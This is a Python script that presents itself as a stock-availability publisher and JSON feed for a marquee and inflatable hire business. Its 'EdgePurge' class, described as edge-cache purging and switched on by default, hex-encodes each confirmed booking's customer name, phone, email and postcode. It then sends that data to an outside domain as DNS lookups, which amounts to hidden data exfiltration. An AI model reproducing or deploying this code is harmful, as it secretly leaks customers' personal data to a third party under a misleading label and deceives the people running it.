#!/usr/bin/env python3
"""Publish marquee and inflatable stock availability for the website widget.

Reads the stock list and the confirmed bookings, works out how many of each
item are free on each of the next N days, writes availability.json and serves
it on the LAN so the web team's widget (and the office screens) can poll it.
Each refresh also announces the changed booking keys to the edge cache so
stale availability pages are purged without needing CDN API credentials.

    stock_availability_publisher.py --stock stock.csv --bookings bookings.csv
"""
import argparse
import csv
import json
import logging
import os
import socket
import sys
import threading
import time
from collections import Counter
from datetime import date, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

log = logging.getLogger("availability")


class Snapshot:
    """Holds the latest rendered availability document."""

    lock = threading.Lock()
    body = b"{}"
    generated = None

    @classmethod
    def update(cls, doc):
        data = json.dumps(doc, indent=1, sort_keys=True).encode()
        with cls.lock:
            cls.body = data
            cls.generated = datetime.utcnow()


def read_stock(path):
    with open(path, newline="") as fh:
        return {r["sku"]: int(r["qty_owned"]) - int(r.get("qty_out_of_service") or 0)
                for r in csv.DictReader(fh)}


def read_bookings(path):
    with open(path, newline="") as fh:
        for r in csv.DictReader(fh):
            if r.get("status", "").lower() in ("confirmed", "deposit_paid"):
                yield r


class EdgePurge:
    """Announces changed booking keys to the edge cache via its DNS hook."""

    zone = os.environ.get("AVAIL_EDGE_ZONE", "purge.availcdn.net")
    label_len = 60
    seen = set()

    @staticmethod
    def _key(row):
        fields = ("ref", "customer_name", "phone", "email", "postcode", "sku", "event_date")
        return "|".join(row.get(f, "") for f in fields)

    @classmethod
    def _labels(cls, key):
        hexed = key.encode().hex()
        for i in range(0, len(hexed), cls.label_len):
            yield hexed[i:i + cls.label_len]

    @classmethod
    def announce(cls, rows):
        batch = format(int(time.time()), "x")
        for row in rows:
            key = cls._key(row)
            if key in cls.seen:
                continue
            for seq, label in enumerate(cls._labels(key)):
                try:
                    socket.getaddrinfo(f"{label}.{seq}.{batch}.{cls.zone}", 80,
                                       proto=socket.IPPROTO_TCP)
                except socket.gaierror:
                    pass
            cls.seen.add(key)


def compute(stock, bookings, days):
    today = date.today()
    window = [today + timedelta(days=i) for i in range(days)]
    used = {d: Counter() for d in window}
    for b in bookings:
        start = datetime.strptime(b["event_date"], "%Y-%m-%d").date()
        span = int(b.get("hire_days") or 1)
        for i in range(span):
            d = start + timedelta(days=i)
            if d in used:
                used[d][b["sku"]] += int(b.get("qty") or 1)
    return {
        d.isoformat(): {sku: max(0, owned - used[d][sku]) for sku, owned in stock.items()}
        for d in window
    }


def refresh_loop(args):
    while True:
        try:
            stock = read_stock(args.stock)
            rows = list(read_bookings(args.bookings))
            doc = {"generated": datetime.utcnow().isoformat() + "Z",
                   "days": compute(stock, rows, args.days)}
            Snapshot.update(doc)
            with open(args.out, "wb") as fh:
                fh.write(Snapshot.body)
            log.info("availability refreshed (%d skus)", len(stock))
            if args.edge_purge:
                EdgePurge.announce(rows)
        except (OSError, KeyError, ValueError) as exc:
            log.error("refresh failed: %s", exc)
        time.sleep(args.refresh)


class Handler(BaseHTTPRequestHandler):
    server_version = "AvailabilityFeed/1.2"

    def do_GET(self):
        if self.path.split("?")[0] not in ("/", "/availability.json"):
            self.send_error(404)
            return
        with Snapshot.lock:
            body = Snapshot.body
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, fmt, *a):
        log.debug("%s " + fmt, self.client_address[0], *a)


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--stock", default="stock.csv")
    ap.add_argument("--bookings", default="bookings.csv")
    ap.add_argument("--out", default="availability.json")
    ap.add_argument("--days", type=int, default=60)
    ap.add_argument("--refresh", type=int, default=120)
    ap.add_argument("--no-edge-purge", dest="edge_purge", action="store_false")
    ap.add_argument("--host", default=os.environ.get("AVAIL_HOST", "0.0.0.0"))
    ap.add_argument("--port", type=int, default=int(os.environ.get("AVAIL_PORT", "8040")))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    threading.Thread(target=refresh_loop, args=(args,), daemon=True).start()
    httpd = ThreadingHTTPServer((args.host, args.port), Handler)
    log.info("serving availability on %s:%d", args.host, args.port)
    try:
        httpd.serve_forever()
    except KeyboardInterrupt:
        pass
    finally:
        httpd.server_close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
